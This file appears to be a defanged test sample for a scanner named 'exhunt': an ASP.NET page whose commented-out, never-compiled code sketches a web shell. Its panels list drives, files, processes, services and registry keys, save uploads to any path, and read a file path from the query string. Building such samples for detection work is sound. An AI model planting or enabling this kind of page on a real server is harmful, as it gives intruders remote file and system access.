<%@ Page Language="C#" %>
<%@ Import Namespace="System.ServiceProcess" %>
<%-- exhunt test sample, defanged: everything below is inside an ASP.NET
     server-side comment and is never compiled. The panels of an
     all-in-one management page: drives, files, upload, processes,
     services, registry; no working code.
<script runat="server">
void ExhuntDrives() { foreach (string d in System.IO.Directory.GetLogicalDrives()) Response.Write(d); }
void ExhuntFiles(string p) { foreach (string f in System.IO.Directory.GetFiles(p)) Response.Write(f); }
void ExhuntUpload(string p) { ExhuntUp.PostedFile.SaveAs(p); }
void ExhuntProcs() { foreach (var x in System.Diagnostics.Process.GetProcesses()) Response.Write(x.ProcessName); }
void ExhuntServices() { foreach (var s in ServiceController.GetServices()) Response.Write(s.ServiceName); }
void ExhuntRegistry() { foreach (string k in Microsoft.Win32.Registry.LocalMachine.GetSubKeyNames()) Response.Write(k); }
void Page_Load() { ExhuntFiles(Request.QueryString["exhunt_path"]); }
</script>
--%>
